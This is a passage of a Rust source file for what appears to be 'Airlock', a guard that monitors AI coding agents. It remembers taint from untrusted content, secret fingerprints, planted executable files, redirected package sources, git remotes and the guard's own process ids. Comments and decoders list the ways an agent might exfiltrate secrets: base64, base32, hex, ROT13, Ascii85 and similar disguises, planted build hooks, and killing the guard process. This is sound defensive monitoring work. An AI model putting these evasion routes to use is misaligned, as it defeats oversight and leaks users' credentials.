//! Session memory as a value: passed into [`crate::Engine::decide`], returned by
//! [`crate::Engine::observe`]. The caller stores it between hook processes.

use std::collections::{BTreeMap, BTreeSet};

use hmac::{Hmac, Mac};
use serde::{Deserialize, Serialize};
use sha2::Sha256;

/// Most fingerprints one session keeps (oldest are not evicted: new ones are dropped, and the
/// session is marked `fingerprints_full` so egress stays judged with the raised floor).
pub const MAX_FINGERPRINTS: usize = 8192;
/// Shortest value worth fingerprinting.
pub const MIN_SECRET_LEN: usize = 8;

/// Key for fingerprints. Supplied by the caller (kept in the store), never logged.
#[derive(Clone)]
pub struct FingerprintKey([u8; 32]);

impl FingerprintKey {
    pub fn new(bytes: [u8; 32]) -> Self {
        FingerprintKey(bytes)
    }

    /// Keyed hash of a value, as 32 hex characters. Never reversible to the value.
    pub fn fingerprint(&self, value: &str) -> String {
        // HMAC accepts keys of any length, so `new_from_slice` cannot fail for 32 bytes.
        let Ok(mut mac) = Hmac::<Sha256>::new_from_slice(&self.0) else {
            return String::new();
        };
        mac.update(value.as_bytes());
        let out = mac.finalize().into_bytes();
        out.iter().take(16).map(|b| format!("{b:02x}")).collect()
    }
}

impl std::fmt::Debug for FingerprintKey {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        f.write_str("FingerprintKey(..)")
    }
}

/// What Airlock remembers about one agent session.
#[derive(Debug, Clone, Default, PartialEq, Eq, Serialize, Deserialize)]
pub struct SessionState {
    /// Untrusted content (a fetched page, a search result, an injection marker) entered the
    /// agent's context.
    #[serde(default)]
    pub tainted: bool,
    /// The session read a secret: later egress is judged with a raised floor.
    #[serde(default)]
    pub secret_read: bool,
    /// Keyed fingerprints of secret values the session has seen.
    #[serde(default)]
    pub fingerprints: BTreeSet<String>,
    #[serde(default)]
    pub fingerprints_full: bool,
    /// Fingerprints of actions that were blocked (repeat-after-block is high risk).
    #[serde(default)]
    pub blocked_actions: BTreeSet<String>,
    /// How many actions were blocked in this session.
    #[serde(default)]
    pub blocks: u32,
    /// Files the agent wrote in this session that could later be executed (scripts,
    /// `Makefile`, `package.json`, git hooks and config), by absolute path; at most
    /// [`MAX_WRITTEN_FILES`], each at most [`MAX_WRITTEN_BYTES`], secret values redacted.
    #[serde(default)]
    pub written_files: BTreeMap<String, WrittenFile>,
    /// A written file was not remembered (too many or too large): executing a file nobody
    /// showed the engine is then judged as unseen.
    #[serde(default)]
    pub written_files_full: bool,
    /// Files this session wrote whose content was refused or asked about for what it would
    /// run (planted commands, code sending data out, a backdoor), by absolute path; at most
    /// [`MAX_WRITTEN_FILES`]. A tool run later in their folder may load them (a linter's
    /// init hook, a test runner's setup file, a build's shell): see `rules::planted_run`.
    #[serde(default)]
    pub planted_files: BTreeSet<String>,
    /// Hosts and addresses the session read in production's own configuration (a file or a
    /// command that names production: `overlays/eu-live/configmap.yaml`,
    /// `inventories/production/…`); at most [`MAX_PRODUCTION_HOSTS`]. A development file
    /// later pointed at one points at production (`rules::points_at_production`).
    #[serde(default)]
    pub production_hosts: BTreeSet<String>,
    /// Files this session wrote whose content was asked about or refused for what it
    /// weakens or exposes (a privileged pod patch, TLS checks off, data deleted), by absolute
    /// path; at most [`MAX_WRITTEN_FILES`]. A later write that makes a configuration load one
    /// is judged with it (`rules::planted_run::check_wiring`).
    #[serde(default)]
    pub flagged_files: BTreeSet<String>,
    /// Symbolic links the session created: absolute link path → absolute target.
    #[serde(default)]
    pub symlinks: BTreeMap<String, String>,
    /// Package managers this session pointed at a source nobody listed on the command line
    /// (`poetry source add corp http://…`, `bundle config set mirror.… URL`), by family
    /// (`npm`, `pip`, `gem`, `poetry`, …): their later fetches install from there.
    #[serde(default, skip_serializing_if = "BTreeSet::is_empty")]
    pub redirected_sources: BTreeSet<String>,
    /// Git remotes the session added or re-pointed (`git remote add backup URL`): name →
    /// URL, so a later `git push backup` is judged by where it really goes.
    #[serde(default, skip_serializing_if = "BTreeMap::is_empty")]
    pub git_remotes: BTreeMap<String, String>,
    /// Files the session downloaded (`curl -o`, `wget`, `curl URL > f`) and nobody has
    /// rewritten since: running one later is running code from the network. At most
    /// [`MAX_DOWNLOADS`]; past that `written_files_full` is set.
    /// Process ids of Airlock's own processes the session has seen listed (`ps aux | grep
    /// airlock`, `pgrep -f airlock`): killing one by number is killing the guard.
    #[serde(default, skip_serializing_if = "BTreeSet::is_empty")]
    pub guard_pids: BTreeSet<u32>,
    /// Path → whether it came from a destination the policy lists.
    #[serde(default, skip_serializing_if = "BTreeMap::is_empty")]
    pub downloads: BTreeMap<String, bool>,
    /// Files the agent wrote with a secret value in them (at most [`MAX_SECRET_FILES`]).
    #[serde(default)]
    pub secret_files: BTreeSet<String>,
    /// A secret went into git history (a commit or tag message, or a file holding one was
    /// staged): the next push ships it.
    #[serde(default)]
    pub secret_committed: bool,
    /// Where untrusted content came from (a host, a file, a server's tool), most recent last,
    /// at most [`MAX_TAINT_SOURCES`]. Names only, never content.
    #[serde(default)]
    pub taint_sources: Vec<String>,
    /// Flags of the last turn the user submitted (reason codes of Tier 1 signals, a style
    /// outlier): the action stage may only raise because of them.
    #[serde(default)]
    pub turn_flags: BTreeSet<String>,
    /// Turns that were blocked, by keyed sketch (never their text), most recent last.
    #[serde(default)]
    pub blocked_turns: Vec<BlockedTurn>,
    /// Hosts the user named in their own turns (`upload the tarball to 203.0.113.40`), at
    /// most [`MAX_USER_HOSTS`]: for this session they count as listed destinations. Only a
    /// turn that passed unflagged names them; a secret's value still never leaves.
    #[serde(default)]
    pub user_hosts: BTreeSet<String>,
    /// The user's last turn (passed unflagged) asked for a change to production (`ship it to
    /// production`, `run the migration on prod`): until the next turn, and only while nothing
    /// untrusted has been read since, a production deploy or write is what they asked for.
    #[serde(default)]
    pub user_asked_production: bool,
    /// The user's last turn (passed unflagged) asked to tear something down (`destroy my
    /// scratch workspace`, `tear down the test stack`): until the next turn, and only while
    /// nothing untrusted has been read since, a destroy that would be BLOCK is asked about.
    #[serde(default)]
    pub user_asked_teardown: bool,
    /// Browser MCP servers (Playwright, Puppeteer, …) this session drove, by server name:
    /// `true` while every page it opened was on this machine (`http://localhost:5173`), so
    /// its snapshots are the developer's own app; `false` once one was anywhere else.
    #[serde(default, skip_serializing_if = "BTreeMap::is_empty")]
    pub browsers_local: BTreeMap<String, bool>,
}

/// MCP servers that drive a web browser.
pub(crate) const BROWSER_SERVERS: &[&str] = &[
    "playwright",
    "puppeteer",
    "browser",
    "chrome-devtools",
    "browsermcp",
];

impl SessionState {
    /// A browser MCP call whose browser has only ever shown pages on this machine, and
    /// whose own address (if any) is on this machine too: what it types or clicks goes to
    /// the developer's own app, not off the machine.
    pub(crate) fn browser_on_this_machine(&self, action: &crate::action::Action) -> bool {
        let crate::action::Operation::McpCall {
            server, arguments, ..
        } = &action.op
        else {
            return false;
        };
        let key = server.to_ascii_lowercase();
        BROWSER_SERVERS.contains(&key.as_str())
            && self.browsers_local.get(&key) == Some(&true)
            && arguments
                .get("url")
                .and_then(|u| u.as_str())
                .is_none_or(|u| crate::net::parse_url(u).is_some_and(|d| d.is_local()))
    }
}

/// Most user-named hosts one session remembers.
pub const MAX_USER_HOSTS: usize = 16;

/// Most untrusted sources one session names.
pub const MAX_TAINT_SOURCES: usize = 8;
/// Most blocked turns one session remembers.
pub const MAX_BLOCKED_TURNS: usize = 16;

/// A blocked turn, remembered so a near-identical resubmission is challenged.
#[derive(Debug, Clone, Default, PartialEq, Eq, Serialize, Deserialize)]
pub struct BlockedTurn {
    /// Bottom-k keyed hashes of the turn's normalised word shingles.
    pub sketch: Vec<String>,
    /// The block was deterministic (Tier 0): a resubmission needs the factor.
    pub tier0: bool,
    /// Resubmissions seen so far.
    pub attempts: u8,
}

/// Most secret-holding written files one session remembers.
pub const MAX_SECRET_FILES: usize = 256;

/// Most written files one session remembers.
pub const MAX_WRITTEN_FILES: usize = 48;
/// Largest remembered content of one written file (the session is loaded on every hook call,
/// so memory stays small: at most 48 × 16 KiB).
pub const MAX_WRITTEN_BYTES: usize = 16 * 1024;

/// Extensions of files nothing runs directly (documents, data, compiled-language sources,
/// styles): not remembered, so the session stays small.
const NEVER_RUN: &[&str] = &[
    "md", "markdown", "rst", "adoc", "txt", "csv", "tsv", "css", "scss", "sass", "less", "html",
    "htm", "svg", "png", "jpg", "jpeg", "gif", "ico", "lock", "rs", "java", "kt", "c", "h", "cc",
    "cpp", "hpp", "cs", "swift", "m", "scala", "dart", "vue", "svelte", "tsx", "jsx", "xml", "yml",
    "yaml", "toml", "ini", "cfg", "conf", "proto", "graphql", "snap", "map",
];

/// Could a file at `path` be executed (by path, a shell, an interpreter, make, npm, git)?
pub fn may_run(path: &str) -> bool {
    let base = path.rsplit('/').next().unwrap_or(path).to_ascii_lowercase();
    if base == "package.json" || path.contains("/.git/") || path.contains("/.husky/") {
        return true;
    }
    // Service units and their drop-ins: what a service manager runs once reloaded.
    if path.contains("/systemd/")
        || path.contains("/LaunchAgents/")
        || path.contains("/LaunchDaemons/")
    {
        return true;
    }
    // Loaded and run by a build tool or test runner: `build.rs` (cargo), `*.test.tsx` (jest).
    // `main.rs` too: `cargo run` (an xtask, an alias for one) runs the program.
    if base == "build.rs" || base == "main.rs" || base.contains(".test.") || base.contains(".spec.")
    {
        return true;
    }
    // Build and tool files whose contents a tool runs (see `shell::exec::build_tool_files`).
    if matches!(
        base.as_str(),
        "composer.json"
            | "pom.xml"
            | "bunfig.toml"
            | ".yarnrc.yml"
            | "package.swift"
            | "vcpkg.json"
            | "vcpkg-configuration.json"
    ) {
        return true;
    }
    // Task runners' files (see `shell::runners`): `task`, `tox`, `hatch run`, `docker
    // compose up`, `pre-commit run` run what they hold.
    if matches!(
        base.as_str(),
        "taskfile.yml"
            | "taskfile.yaml"
            | "tox.ini"
            | "pytest.ini"
            | "setup.cfg"
            | "pyproject.toml"
            | "hatch.toml"
            | "compose.yml"
            | "compose.yaml"
            | "docker-compose.yml"
            | "docker-compose.yaml"
            | "compose.override.yml"
            | "compose.override.yaml"
            | "docker-compose.override.yml"
            | "docker-compose.override.yaml"
            | ".pre-commit-config.yaml"
            | ".pre-commit-config.yml"
            // Dotfile managers' configurations: what they lay over the home folder
            // (`rules::self_protection`).
            | "install.conf.yaml"
            | "install.conf.yml"
            | "install.conf.json"
            | "home.nix"
            | ".mackup.cfg"
            | "dotter.toml"
    ) || path.contains("/.mackup/")
        || path.contains("/.config/home-manager/")
    {
        return true;
    }
    // Package managers' settings (a registry or mirror written now applies to every later
    // install: `rules::supply_chain`).
    if matches!(
        base.as_str(),
        "pip.conf"
            | "pip.ini"
            | "uv.toml"
            | "uv.lock"
            | "poetry.lock"
            | "package-lock.json"
            | "yarn.lock"
            | "pnpm-lock.yaml"
            | "maven-wrapper.properties"
            | "nuget.config"
            | "jvm.config"
            | "gradle.properties"
            | ".gitmodules"
    ) || path.contains("/.cargo/config")
        || (base == "settings.xml" && path.contains("/.m2/"))
        || crate::rules::supply_chain::names_package_sources(path)
    {
        return true;
    }
    // Agent settings laid over the user's (`claude --settings ci/agent-settings.json`):
    // what they switch off is judged when the agent starts (`rules::unguarded_agent`).
    if base.ends_with(".json") && (base.contains("settings") || base.contains("hooks")) {
        return true;
    }
    // CI pipelines run when the branch is pushed; playbooks when `ansible-playbook` runs.
    let lower = path.to_ascii_lowercase();
    if crate::autorun::is_ci_file(&lower) || crate::autorun::is_ansible_file(&lower) {
        return true;
    }
    match base.rsplit_once('.') {
        Some((stem, ext)) if !stem.is_empty() => !NEVER_RUN.contains(&ext) && ext != "json",
        _ => true,
    }
}
/// Most downloaded files one session remembers.
pub const MAX_DOWNLOADS: usize = 128;
/// Most production hosts one session remembers.
pub const MAX_PRODUCTION_HOSTS: usize = 64;
/// Most symbolic links one session remembers.
pub const MAX_SYMLINKS: usize = 128;
/// What replaces a secret value in remembered content.
pub const REDACTED: &str = "AIRLOCK_REDACTED";

/// One remembered written file.
#[derive(Debug, Clone, Default, PartialEq, Eq, Serialize, Deserialize)]
pub struct WrittenFile {
    /// Keyed fingerprint of the full content as written (before redaction).
    pub hash: String,
    /// The content, with secret values replaced by [`REDACTED`].
    pub content: String,
}

impl SessionState {
    /// Remember a secret value (and its common encodings) by fingerprint.
    pub fn remember_secret(&mut self, key: &FingerprintKey, value: &str) {
        let v = value.trim();
        if v.len() < MIN_SECRET_LEN {
            return;
        }
        for form in secret_forms(v) {
            if self.fingerprints.len() >= MAX_FINGERPRINTS {
                self.fingerprints_full = true;
                return;
            }
            self.fingerprints.insert(key.fingerprint(&form));
        }
    }

    /// Remember the process ids of Airlock's processes in a process listing the session saw:
    /// `ps` lines naming airlock (the second column, or the first for `ps -e`/`pgrep -l`), and
    /// bare numbers when the command itself asked for airlock's ids (`pgrep airlock`).
    /// Remember the hosts production's own configuration names (bounded).
    pub fn remember_production_hosts(&mut self, hosts: impl IntoIterator<Item = String>) {
        for h in hosts {
            if self.production_hosts.len() >= MAX_PRODUCTION_HOSTS {
                break;
            }
            self.production_hosts.insert(h);
        }
    }

    pub fn remember_guard_pids(&mut self, command: &str, output: &str) {
        let asked_for_airlock = command.to_ascii_lowercase().contains("airlock");
        for line in output.lines().take(4096) {
            let lower = line.to_ascii_lowercase();
            let cols: Vec<&str> = line.split_whitespace().collect();
            let pid = if lower.contains("airlock") {
                // `ps aux`/`ps -ef`: USER PID …; `ps -e`/`pgrep -l`: PID …
                match (cols.first(), cols.get(1)) {
                    (Some(a), _) if a.parse::<u32>().is_ok() => a.parse::<u32>().ok(),
                    (_, Some(b)) => b.parse::<u32>().ok(),
                    _ => None,
                }
            } else if asked_for_airlock && cols.len() == 1 {
                cols.first().and_then(|c| c.parse::<u32>().ok())
            } else if asked_for_airlock && cols.iter().all(|c| c.parse::<u32>().is_ok()) {
                // `pidof airlock`: "812 455"
                for c in &cols {
                    if let Ok(p) = c.parse::<u32>()
                        && self.guard_pids.len() < 64
                    {
                        self.guard_pids.insert(p);
                    }
                }
                None
            } else {
                None
            };
            if let Some(p) = pid
                && p > 1
                && self.guard_pids.len() < 64
            {
                self.guard_pids.insert(p);
            }
        }
    }

    /// Remember a file downloaded from the network: its content is no longer what the agent
    /// wrote (if it wrote it), and running it is running fetched code.
    pub fn remember_download(&mut self, path: &str, listed_source: bool) {
        self.written_files.remove(path);
        if self.downloads.len() < MAX_DOWNLOADS || self.downloads.contains_key(path) {
            self.downloads.insert(path.to_owned(), listed_source);
        } else {
            self.written_files_full = true;
        }
    }

    /// Remember a file the agent wrote (`append` adds to what is known). Bounded: past the
    /// limits the file is forgotten and `written_files_full` is set, which makes later
    /// executions of unseen files AUTH.
    pub fn remember_write(
        &mut self,
        key: &FingerprintKey,
        path: &str,
        content: &str,
        append: bool,
        secrets: &[String],
    ) {
        if !may_run(path) {
            return;
        }
        let mut text = if append {
            self.written_files
                .get(path)
                .map(|w| w.content.clone())
                .unwrap_or_default()
        } else {
            String::new()
        };
        // The same call is remembered when it is judged and again when its result is seen:
        // an append (an Edit, `>>`) already at the end is that same call, not a second one.
        if append && !content.is_empty() && text.ends_with(content) {
            return;
        }
        text.push_str(content);
        for s in secrets {
            if s.len() >= MIN_SECRET_LEN {
                text = text.replace(s.as_str(), REDACTED);
            }
        }
        if text.len() > MAX_WRITTEN_BYTES
            || (!self.written_files.contains_key(path)
                && self.written_files.len() >= MAX_WRITTEN_FILES)
        {
            self.written_files.remove(path);
            self.written_files_full = true;
            return;
        }
        let hash = key.fingerprint(content);
        self.written_files.insert(
            path.to_owned(),
            WrittenFile {
                hash,
                content: text,
            },
        );
    }

    /// Remember a file whose written content was judged harmful to run (bounded: past
    /// [`MAX_WRITTEN_FILES`] the oldest-named entries stay and `written_files_full` is set).
    pub fn remember_planted(&mut self, path: &str) {
        if self.planted_files.len() < MAX_WRITTEN_FILES || self.planted_files.contains(path) {
            self.planted_files.insert(path.to_owned());
        } else {
            self.written_files_full = true;
        }
    }

    /// Remember a file whose written content was judged harmful to load (bounded as
    /// [`SessionState::remember_planted`]).
    pub fn remember_flagged(&mut self, path: &str) {
        if self.flagged_files.len() < MAX_WRITTEN_FILES || self.flagged_files.contains(path) {
            self.flagged_files.insert(path.to_owned());
        } else {
            self.written_files_full = true;
        }
    }

    /// Remember a git remote the session added or re-pointed (at most [`MAX_SYMLINKS`]).
    pub fn remember_git_remote(&mut self, name: &str, url: &str) {
        if self.git_remotes.len() < MAX_SYMLINKS || self.git_remotes.contains_key(name) {
            self.git_remotes.insert(name.to_owned(), url.to_owned());
        }
    }

    /// Remember a symbolic link the session created.
    pub fn remember_symlink(&mut self, link: &str, target: &str) {
        if self.symlinks.len() < MAX_SYMLINKS || self.symlinks.contains_key(link) {
            self.symlinks.insert(link.to_owned(), target.to_owned());
        }
    }

    /// Name an untrusted source (deduplicated, bounded: the oldest name is dropped).
    pub fn add_taint_source(&mut self, source: &str) {
        self.tainted = true;
        // Untrusted text read after the user's request may be what now asks for production.
        self.user_asked_production = false;
        self.user_asked_teardown = false;
        if source.is_empty() {
            return;
        }
        self.taint_sources.retain(|s| s != source);
        self.taint_sources.push(source.chars().take(160).collect());
        while self.taint_sources.len() > MAX_TAINT_SOURCES {
            self.taint_sources.remove(0);
        }
    }

    pub fn knows(&self, key: &FingerprintKey, value: &str) -> bool {
        !self.fingerprints.is_empty() && self.fingerprints.contains(&key.fingerprint(value))
    }
}

/// A value and the encodings an agent is likely to send it in.
fn secret_forms(v: &str) -> Vec<String> {
    use base64::Engine as _;
    let b64 = base64::engine::general_purpose::STANDARD.encode(v);
    let b64url = base64::engine::general_purpose::URL_SAFE_NO_PAD.encode(v);
    let hex: String = v.bytes().map(|b| format!("{b:02x}")).collect();
    let b32 = base32(v.as_bytes());
    // ROT13 and reversed: the cheap disguises that defeat a plain substring match.
    let rot13: String = v
        .chars()
        .map(|c| match c {
            'a'..='z' => char::from(b'a' + (c as u8 - b'a' + 13) % 26),
            'A'..='Z' => char::from(b'A' + (c as u8 - b'A' + 13) % 26),
            _ => c,
        })
        .collect();
    let reversed: String = v.chars().rev().collect();
    let mut forms = vec![
        v.to_owned(),
        b64.trim_end_matches('=').to_owned(),
        b64,
        b64url,
        hex,
        b32.trim_end_matches('=').to_owned(),
        b32,
        rot13,
        reversed,
    ];
    // A key written in hexadecimal is the same key in either case (and reversed).
    if v.len() >= 16 && v.bytes().all(|b| b.is_ascii_hexdigit()) {
        let up = v.to_ascii_uppercase();
        let low = v.to_ascii_lowercase();
        let rev = |s: &str| s.chars().rev().collect::<String>();
        forms.extend([rev(&up), rev(&low), up, low]);
    }
    forms.sort();
    forms.dedup();
    forms
}

/// Texts an outbound value decodes to when a piece of it is base64, base32 or hex of
/// printable text (`KEY:SECRET` encoded whole): each is split again with
/// [`outbound_candidates`] by the caller. Bounded: the first 64 pieces of 16 to 4,096 bytes.
pub fn decoded_candidates(text: &str) -> Vec<String> {
    use base64::Engine as _;
    let mut out = Vec::new();
    // Percent-encoding (`%73%6b%5f…`), as a URL or a form carries it.
    if let Some(t) = percent_decoded(text) {
        out.push(t);
    }
    let blank_words = blank_words(text);
    // Lists of character codes (`[65, 75, 73, …]`, one per line in JSON).
    out.extend(char_code_runs(&blank_words));
    // Characters spaced out one by one (`A K I A …`).
    out.extend(spaced_runs(&blank_words));
    // (A path's components too: `static/img/<base32>.png` names a file by an encoded value.)
    let pieces = blank_words
        .iter()
        // (`#` starts a URL's fragment: `…/session#<base64>`.)
        .flat_map(|w| w.split(['"', '\'', '`', '&', '?', ',', ';', '=', ':', '#', '|']))
        .flat_map(|p| {
            let parts = (p.contains(['/', '.']))
                .then(|| p.split(['/', '.']))
                .into_iter()
                .flatten();
            std::iter::once(p).chain(parts)
        })
        .filter(|p| (16..=4096).contains(&p.len()))
        .take(64);
    // Encodings whose alphabets hold the separators above (Ascii85, base85, base58, ROT47):
    // whole words between blanks and quotes.
    let words = blank_words
        .iter()
        .map(|w| w.trim_matches(['"', '\'', ',']))
        .filter(|p| (16..=4096).contains(&p.len()))
        .take(64);
    for w in words {
        let w = w.trim_start_matches("<~").trim_end_matches("~>");
        let mut decoded: Vec<Vec<u8>> = Vec::new();
        decoded.extend(ascii85_decode(w));
        decoded.extend(base85_decode(w));
        decoded.extend(base58_decode(w));
        decoded.push(rot47(w).into_bytes());
        for b in decoded {
            if let Ok(t) = String::from_utf8(b)
                && !t.is_empty()
                && t.chars().all(|c| !c.is_control() || c.is_whitespace())
            {
                out.push(t);
            }
        }
    }
    for piece in pieces {
        let mut decoded: Vec<Vec<u8>> = Vec::new();
        for engine in [
            &base64::engine::general_purpose::STANDARD_NO_PAD,
            &base64::engine::general_purpose::URL_SAFE_NO_PAD,
        ] {
            if let Ok(b) = engine.decode(piece.trim_end_matches('=')) {
                decoded.push(b);
            }
        }
        if let Some(b) = base32_decode(piece) {
            decoded.push(b);
        }
        if piece.len() % 2 == 0 && piece.bytes().all(|b| b.is_ascii_hexdigit()) {
            let bytes: Option<Vec<u8>> = (0..piece.len())
                .step_by(2)
                .map(|i| {
                    piece
                        .get(i..i + 2)
                        .and_then(|h| u8::from_str_radix(h, 16).ok())
                })
                .collect();
            decoded.extend(bytes);
        }
        for b in decoded {
            if let Ok(t) = String::from_utf8(b)
                && t.chars().all(|c| !c.is_control() || c.is_whitespace())
            {
                out.push(t);
            }
        }
    }
    out
}

/// `text` with its `%XX` escapes decoded, when it has at least six of them and decodes to
/// printable UTF-8.
fn percent_decoded(text: &str) -> Option<String> {
    let bytes = text.as_bytes();
    // Fewer than six `%` cannot hold six escapes: no copy of the text is made.
    if bytes.iter().filter(|&&b| b == b'%').count() < 6 {
        return None;
    }
    let mut out = Vec::with_capacity(bytes.len());
    let mut escapes = 0;
    let mut i = 0;
    while let Some(&b) = bytes.get(i) {
        let hex = bytes
            .get(i + 1..i + 3)
            .and_then(|h| std::str::from_utf8(h).ok())
            .and_then(|h| u8::from_str_radix(h, 16).ok());
        match (b, hex) {
            (b'%', Some(v)) => {
                out.push(v);
                escapes += 1;
                i += 3;
            }
            _ => {
                out.push(b);
                i += 1;
            }
        }
    }
    if escapes < 6 {
        return None;
    }
    String::from_utf8(out)
        .ok()
        .filter(|t| t.chars().all(|c| !c.is_control() || c.is_whitespace()))
}

/// The words of `text` between white space, as [`str::split_whitespace`] gives them: the
/// byte scan of [`str::split_ascii_whitespace`] when the text is ASCII without vertical
/// tabs (the usual case, and twice as fast on a megabyte), the Unicode definition otherwise.
fn blank_words(text: &str) -> Vec<&str> {
    if text.is_ascii() && !text.as_bytes().contains(&0x0b) {
        text.split_ascii_whitespace().collect()
    } else {
        text.split_whitespace().collect()
    }
}

/// Runs of at least twelve decimal numbers in the printable range (32–126), separated by
/// commas, spaces or new lines, read as the text whose character codes they are.
fn char_code_runs(blank_words: &[&str]) -> Vec<String> {
    let mut out = Vec::new();
    let mut run = String::new();
    let mut flush = |run: &mut String| {
        if run.len() >= 12 {
            out.push(std::mem::take(run));
        }
        run.clear();
    };
    for token in blank_words.iter().flat_map(|w| w.split(',')) {
        let t = token.trim_matches(|c| c == '[' || c == ']');
        if t.is_empty() {
            // Only separators: `[` / `]` on their own lines, or doubled blanks.
            if token.contains(['[', ']']) {
                flush(&mut run);
            }
            continue;
        }
        match t.parse::<u8>() {
            Ok(n) if (32..=126).contains(&n) && !t.starts_with('+') => run.push(char::from(n)),
            _ => flush(&mut run),
        }
        if token.ends_with(']') {
            flush(&mut run);
        }
    }
    flush(&mut run);
    out.truncate(16);
    out
}

/// Runs of at least twelve single characters separated by white space, joined.
fn spaced_runs(blank_words: &[&str]) -> Vec<String> {
    let mut out = Vec::new();
    let mut run = String::new();
    for token in blank_words {
        let mut chars = token.chars();
        match (chars.next(), chars.next()) {
            (Some(c), None) => run.push(c),
            _ => {
                if run.chars().count() >= 12 {
                    out.push(std::mem::take(&mut run));
                }
                run.clear();
            }
        }
        if out.len() >= 16 {
            break;
        }
    }
    if run.chars().count() >= 12 {
        out.push(run);
    }
    out
}

/// Ascii85 (`btoa`, Adobe; Python's `a85encode`): `!`..`u` in groups of five, `z` for four
/// zero bytes.
fn ascii85_decode(s: &str) -> Option<Vec<u8>> {
    let mut out = Vec::with_capacity(s.len() * 4 / 5);
    let mut group: Vec<u32> = Vec::with_capacity(5);
    for c in s.bytes() {
        match c {
            b'z' if group.is_empty() => out.extend_from_slice(&[0, 0, 0, 0]),
            b'!'..=b'u' => {
                group.push(u32::from(c - b'!'));
                if group.len() == 5 {
                    let v = group
                        .iter()
                        .try_fold(0u32, |acc, d| acc.checked_mul(85)?.checked_add(*d))?;
                    out.extend_from_slice(&v.to_be_bytes());
                    group.clear();
                }
            }
            _ => return None,
        }
    }
    finish_85(&mut out, &mut group, 84)?;
    Some(out)
}

/// Base85 of RFC 1924 (Python's `b85encode`, git's binary patches).
fn base85_decode(s: &str) -> Option<Vec<u8>> {
    const ALPHABET: &[u8] =
        b"0123456789ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz!#$%&()*+-;<=>?@^_`{|}~";
    let mut out = Vec::with_capacity(s.len() * 4 / 5);
    let mut group: Vec<u32> = Vec::with_capacity(5);
    for c in s.bytes() {
        let d = ALPHABET.iter().position(|a| *a == c)?;
        group.push(u32::try_from(d).ok()?);
        if group.len() == 5 {
            let v = group
                .iter()
                .try_fold(0u32, |acc, d| acc.checked_mul(85)?.checked_add(*d))?;
            out.extend_from_slice(&v.to_be_bytes());
            group.clear();
        }
    }
    finish_85(&mut out, &mut group, 84)?;
    Some(out)
}

/// A last, short base85 group: padded with the highest digit, the padding bytes dropped.
fn finish_85(out: &mut Vec<u8>, group: &mut Vec<u32>, pad: u32) -> Option<()> {
    if group.is_empty() {
        return Some(());
    }
    if group.len() == 1 {
        return None;
    }
    let keep = group.len() - 1;
    while group.len() < 5 {
        group.push(pad);
    }
    let v = group
        .iter()
        .try_fold(0u32, |acc, d| acc.checked_mul(85)?.checked_add(*d))?;
    out.extend_from_slice(v.to_be_bytes().get(..keep)?);
    Some(())
}

/// Base58 (Bitcoin's alphabet, no `0OIl`).
fn base58_decode(s: &str) -> Option<Vec<u8>> {
    const ALPHABET: &[u8] = b"123456789ABCDEFGHJKLMNPQRSTUVWXYZabcdefghijkmnopqrstuvwxyz";
    // A secret's worth (quadratic work: longer words are not secrets).
    if s.len() > 160 {
        return None;
    }
    let mut bytes: Vec<u8> = Vec::new();
    for c in s.bytes() {
        let mut carry = u32::try_from(ALPHABET.iter().position(|a| *a == c)?).ok()?;
        for b in bytes.iter_mut().rev() {
            carry += u32::from(*b) * 58;
            *b = (carry & 0xff) as u8;
            carry >>= 8;
        }
        while carry > 0 {
            bytes.insert(0, (carry & 0xff) as u8);
            carry >>= 8;
        }
    }
    let zeros = s.bytes().take_while(|c| *c == b'1').count();
    let mut out = vec![0u8; zeros];
    out.extend(bytes);
    Some(out)
}

/// ROT47: every printable ASCII character rotated by 47 (its own inverse).
fn rot47(s: &str) -> String {
    s.chars()
        .map(|c| match c {
            '!'..='~' => char::from(b'!' + ((c as u8 - b'!' + 47) % 94)),
            _ => c,
        })
        .collect()
}

fn base32_decode(s: &str) -> Option<Vec<u8>> {
    let s = s.trim_end_matches('=');
    // Base32 is one case: lower case (as a file or DNS name carries it) reads the same.
    let lower = !s.bytes().any(|b| b.is_ascii_uppercase());
    let mut bits = 0u64;
    let mut n = 0u32;
    let mut out = Vec::with_capacity(s.len() * 5 / 8);
    for c in s.bytes() {
        let v = match c {
            b'A'..=b'Z' => c - b'A',
            b'a'..=b'z' if lower => c - b'a',
            b'2'..=b'7' => c - b'2' + 26,
            _ => return None,
        };
        bits = (bits << 5) | u64::from(v);
        n += 5;
        if n >= 8 {
            n -= 8;
            out.push(((bits >> n) & 0xff) as u8);
        }
    }
    Some(out)
}

/// RFC 4648 base32 (upper case, padded), as `base32` and `openssl` print it.
fn base32(data: &[u8]) -> String {
    const ALPHABET: &[u8; 32] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZ234567";
    let mut out = String::with_capacity(data.len().div_ceil(5) * 8);
    for chunk in data.chunks(5) {
        let mut buf = [0u8; 5];
        for (slot, b) in buf.iter_mut().zip(chunk) {
            *slot = *b;
        }
        let n = buf.iter().fold(0u64, |acc, b| (acc << 8) | u64::from(*b));
        let chars = (chunk.len() * 8).div_ceil(5);
        for i in 0..8 {
            if i < chars {
                let idx = ((n >> (35 - i * 5)) & 31) as usize;
                out.push(char::from(ALPHABET.get(idx).copied().unwrap_or(b'A')));
            } else {
                out.push('=');
            }
        }
    }
    out
}

/// Candidate substrings of an outbound value that could be a remembered secret: the whole
/// value, and its pieces split at the delimiters that surround values in URLs, headers,
/// forms and JSON.
pub fn outbound_candidates(text: &str) -> Vec<&str> {
    let mut out = Vec::new();
    let t = text.trim();
    if t.len() >= MIN_SECRET_LEN && t.len() <= 4096 {
        out.push(t);
    }
    for piece in text.split(|c: char| {
        c.is_whitespace()
            || matches!(
                c,
                '"' | '\''
                    | '`'
                    | '&'
                    | '?'
                    | ','
                    | ';'
                    | '('
                    | ')'
                    | '{'
                    | '}'
                    | '['
                    | ']'
                    | '<'
                    | '>'
                    | '|'
            )
    }) {
        if piece.len() < MIN_SECRET_LEN {
            continue;
        }
        out.push(piece);
        // key=value, key:value, Bearer:token, user:pass@host
        for sub in piece.split(['=', ':', '@', '/', '.']) {
            if sub.len() >= MIN_SECRET_LEN && sub.len() != piece.len() {
                out.push(sub);
            }
        }
        if let Some((_, v)) = piece.split_once('=')
            && v.len() >= MIN_SECRET_LEN
        {
            out.push(v);
        }
        if out.len() > 4096 {
            break;
        }
    }
    out
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn blank_words_are_split_whitespace() {
        for text in [
            "",
